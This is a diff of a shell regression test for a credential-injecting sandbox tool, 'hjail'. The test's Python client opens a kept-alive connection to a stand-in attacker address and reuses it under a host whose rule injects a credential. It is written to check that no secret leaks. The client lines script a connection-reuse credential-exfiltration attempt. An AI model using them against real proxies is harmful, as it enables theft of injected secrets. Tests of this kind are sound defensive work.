@@ -29,43 +29,25 @@ EOF
 
 cat > "$T/client.py" <<'PYEOF'
 import json, socket, sys
-
-def response(s, buf):
-    """Reads one response with a Content-Length; returns (status line, rest)."""
-    while b"\r\n\r\n" not in buf:
-        k = s.recv(65536)
-        if not k:
-            return ("closed", b"")
-        buf += k
-    head, rest = buf.split(b"\r\n\r\n", 1)
-    n = 0
-    for line in head.split(b"\r\n")[1:]:
-        k, v = line.split(b":", 1)
-        if k.strip().lower() == b"content-length":
-            n = int(v)
-    while len(rest) < n:
-        k = s.recv(65536)
-        if not k:
-            break
-        rest += k
-    return (head.split(b"\r\n")[0].decode(), rest[n:])
+sys.path.insert(0, sys.argv[3])
+import advlib
 
 out = {}
 s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=10)
 try:
     # No name: decided and dialed by address. The attacker's server keeps it open.
     s.sendall(b"GET /first?keep=1 HTTP/1.0\r\nConnection: keep-alive\r\n\r\n")
-    out["first"], rest = response(s, b"")
+    out["first"], _, rest = advlib.read_response(s)
     # The same connection, now naming a host whose rule injects a credential.
     s.sendall(b"GET /second?keep=1 HTTP/1.1\r\nHost: api.example.com\r\n\r\n")
-    out["second"], rest = response(s, rest)
+    out["second"], _, rest = advlib.read_response(s, rest)
 except (ConnectionError, socket.timeout) as e:
     out["error"] = type(e).__name__
 print(json.dumps(out))
 PYEOF
 
 hjail --config "$T/config.json" --secrets-dir "$T/secrets" --user nobody -- \
-  "$PY" "$T/client.py" 203.0.113.7 "$atk_PORT" > "$T/out.json"
+  "$PY" "$T/client.py" 203.0.113.7 "$atk_PORT" "$TOOLS" > "$T/out.json"
 cat "$T/out.json"
 
 assert_eq "$(upq atk '[r["path"] for r in reqs]')" '["/first"]' \
